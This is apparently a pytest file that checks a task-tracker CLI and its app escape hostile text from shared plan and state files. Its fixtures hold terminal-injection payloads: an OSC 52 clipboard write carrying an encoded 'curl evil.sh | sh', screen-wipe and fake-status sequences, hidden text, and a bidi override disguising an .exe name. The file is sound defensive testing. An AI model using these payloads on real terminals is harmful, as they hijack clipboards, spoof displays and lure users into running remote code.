"""Terminal injection as a security boundary (issue 12, item 9).

Text from the plan (title, owner, category, notes, required evidence) and from the state file
(`--by`, reasons, notes, labels, evidence file names) is written by other people. At both
exits, the command line and the app, it must come out as visible escapes: zero raw control,
bidi or invisible format characters, whatever the sequence tries (OSC 52 clipboard, OSC 0
window title, CSI 2J clear screen, CSI 8m hidden text, C1 CSI, carriage return, bidi
overrides and isolates, zero-width and tag characters).

The check of the output is independent of tracker.textsafe: it asks `unicodedata` for the
category of every character that reached the terminal.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
import termios
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner

from tracker.cli import cli
from tracker.textsafe import json_safe, visible

TODAY = "2026-06-15"

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # puts `curl evil.sh | sh` on the clipboard
OSC0 = "\x1b]0;已被接管\x07"  # renames the window or pane
WIPE = "\x1b[2J\x1b[H伪造：全部已完成"  # clears the screen and paints a lie
HIDE = "\x1b[8m"  # hides what follows
C1 = "\x9b2J"  # the same clear screen with the one-byte C1 CSI
BIDI = "\u202egpj.exe"  # right-to-left override: looks like exe.jpg
ISOLATE = "\u2066隔离\u2069"
INVISIBLE = "\u200b\u00ad\U000e0041\ufeff"  # zero width, soft hyphen, a tag character, BOM
CR = "\r覆盖"  # returns to the line start and overwrites it
ODD = "\x7f\x08\x00\x1f"

HOSTILE = [OSC52, OSC0, WIPE, HIDE, C1, BIDI, ISOLATE, INVISIBLE, CR, ODD]
ALL = "".join(HOSTILE)


def toml_string(text: str) -> str:
    """A TOML basic string holding exactly `text` (every non-printable as \\uXXXX)."""
    out = []
    for ch in text:
        code = ord(ch)
        if ch in '"\\':
            out.append("\\" + ch)
        elif code < 0x20 or 0x7F <= code <= 0x9F or unicodedata.category(ch) in ("Cf", "Zl", "Zp"):
            out.append(f"\\U{code:08X}" if code > 0xFFFF else f"\\u{code:04X}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def hostile_plan(folder: Path) -> Path:
    owner = toml_string("社区党委" + HIDE + BIDI)
    support = toml_string("人武部" + INVISIBLE)
    category = toml_string("拥军" + WIPE)
    text = f"""\
title = {toml_string("计划" + OSC0 + OSC52)}
unit = {toml_string("社区" + ISOLATE)}
year = 2026
owners = [{owner}, "居委会", {support}]
categories = [{category}]
default_owner = "居委会"

[[task]]
id = "visit"
title = {toml_string("走访" + WIPE + C1 + CR)}
when = "6月16日"
category = {category}
owner = {owner}
support = [{support}]
evidence = [{toml_string("签到表" + BIDI)}, {toml_string("照片" + INVISIBLE)}]
notes = {toml_string("说明" + OSC52 + ISOLATE + ODD)}

[[task]]
id = "meeting"
title = "召开双拥工作例会"
when = "6月20日"
owner = "居委会"
"""
    path = folder / "计划.toml"
    path.write_text(text, encoding="utf-8")
    return path


def unsafe_chars(text: str) -> list[str]:
    """Raw characters a terminal would act on or hide: controls (other than newline and tab),
    DEL, C1, format characters (bidi, zero width, tags), separators, surrogates."""
    return [
        f"U+{ord(ch):04X}"
        for ch in text
        if ch not in "\n\t" and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs")
    ]


@pytest.fixture()
def world(env):
    plan = hostile_plan(env)
    db = env / "state.jsonl"
    photo = env / f"照片{OSC52}{BIDI}.jpg"
    photo.write_bytes(b"photo")
    base = ["--plan", str(plan), "--db", str(db), "--today", TODAY]
    runner = CliRunner()
    # What a colleague on the shared folder records: every text field hostile.
    writes = [
        ["--by", "小王" + OSC0 + HIDE, "evidence", "visit", "--file", str(photo), "--label", "签到表" + WIPE],
        ["--by", "小王" + BIDI, "evidence", "visit", "--note", "已走访" + OSC52 + CR, "--label", "照片" + C1],
        ["--by", "小王" + ISOLATE, "set", "visit", "--status", "延期", "--due", "2026-06-30", "--reason", "原因" + WIPE],
        ["--by", "小王" + INVISIBLE, "set", "meeting", "--owner", "新单位" + OSC52],
    ]
    for args in writes:
        result = runner.invoke(cli, [*base, *args], catch_exceptions=False)
        assert result.exit_code == 0, result.output
    return env, base


EXITS = {
    "list": ["list"],
    "list --json": ["list", "--json"],
    "list --owner": ["list", "--owner", "社区党委" + HIDE + BIDI],
    "show": ["show", "visit"],
    "show reassigned": ["show", "meeting"],
    "history": ["history"],
    "history of one item": ["history", "visit"],
    "report minutes": ["report", "minutes", "--since", "2000-01-01"],
    "report summary": ["report", "summary"],
    "validate": ["validate"],
    "error: unknown id": ["show", "不存在" + OSC52],
    "error: unknown owner": ["list", "--owner", "无此单位" + WIPE],
    "error: bad status": ["set", "visit", "--status", "完成" + OSC0],
    "usage error": ["no-such-command" + OSC52],
}


@pytest.mark.parametrize("name", list(EXITS))
def test_no_raw_control_character_reaches_the_output(world, name: str) -> None:
    folder, base = world
    result = CliRunner().invoke(cli, [*base, *EXITS[name]], catch_exceptions=False)
    text = result.stdout + result.stderr
    assert "Traceback" not in text
    assert unsafe_chars(text) == [], text
    if name.startswith("list --json"):
        rows = json.loads(result.stdout)  # still JSON, and the data is exact
        visit = next(r for r in rows if r["id"] == "visit")
        assert visit["title"] == "走访" + WIPE + C1 + CR


def _in_terminal(args: list[str], cwd: Path) -> tuple[str, int]:
    """Run the command on a pseudo-terminal (isatty is true: click strips nothing) and return
    every byte it wrote there, decoded."""
    master, slave = pty.openpty()
    attrs = termios.tcgetattr(slave)
    attrs[1] &= ~termios.OPOST  # no \n -> \r\n translation: a \r in the output is the program's
    termios.tcsetattr(slave, termios.TCSANOW, attrs)
    env = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "200"}
    proc = subprocess.Popen([sys.executable, "-m", "tracker.cli", *args], stdin=slave, stdout=slave,
                            stderr=slave, cwd=cwd, env=env)
    os.close(slave)
    chunks = []
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the other side closed
            break
        if not data:
            break
        chunks.append(data)
    code = proc.wait(timeout=120)
    os.close(master)
    return b"".join(chunks).decode("utf-8", "replace"), code


@pytest.mark.parametrize("name", ["list", "show", "history", "report minutes", "error: unknown id"])
def test_on_a_real_terminal_nothing_raw_arrives(world, name: str) -> None:
    folder, base = world
    text, code = _in_terminal([*base, *EXITS[name]], folder)
    assert unsafe_chars(text) == [], text
    if name != "error: unknown id":
        assert code == 0, text
        assert "\\e" in text  # the sequences are shown, as visible text


def test_what_the_escapes_look_like() -> None:
    assert visible("a\x1b[2Jb") == "a\\e[2Jb"
    assert visible("\x07\r\n\t\x00\x7f\x9b") == "\\a\\r\\n\\t\\x00\\x7f\\x9b"
    assert visible("\u202egpj.exe") == "<U+202E>gpj.exe"
    assert visible("\U000e0041") == "<U+E0041>"
    assert visible("第一行\n第二行\t", keep="\n\t") == "第一行\n第二行\t"
    plain = "双拥工作计划（2026年）：走访、慰问　全角空格 emoji 🎖 é"
    assert visible(plain) is plain


def test_every_control_and_format_character_is_escaped() -> None:
    for code in range(sys.maxunicode + 1):
        ch = chr(code)
        if unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs"):
            shown = visible(ch)
            assert shown != ch and unsafe_chars(shown) == [], f"U+{code:04X}"


def test_json_stays_exact_data_without_raw_characters() -> None:
    value = {"title": ALL, "owner": "社区\u202e"}
    text = json_safe(json.dumps(value, ensure_ascii=False, indent=2))
    assert unsafe_chars(text) == []
    assert json.loads(text) == value


async def test_the_app_shows_no_raw_control_character(world) -> None:
    from screens.app import build_app
    from tracker.settings import AppContext

    folder, _ = world
    ctx = AppContext(plan_option=folder / "计划.toml", db_option=folder / "state.jsonl",
                     today_option=__import__("datetime").date(2026, 6, 15), user="测试员")
    app = build_app(ctx)

    def screen_text() -> str:
        return "\n".join(strip.text for strip in app.screen._compositor.render_strips())

    async with app.run_test(size=(160, 45)) as pilot:
        await app.workers.wait_for_complete()
        await pilot.pause()
        await pilot.pause()
        seen = [screen_text()]
        table = app.screen.query_one("TaskTable")
        assert table.move_to((2026, "visit"))
        await pilot.pause()
        await pilot.press("enter")  # the detail screen: notes, evidence, history
        await pilot.pause()
        await pilot.pause()
        seen.append(screen_text())
        assert "visit" in seen[-1]
        for text in seen:
            assert unsafe_chars(text) == [], text
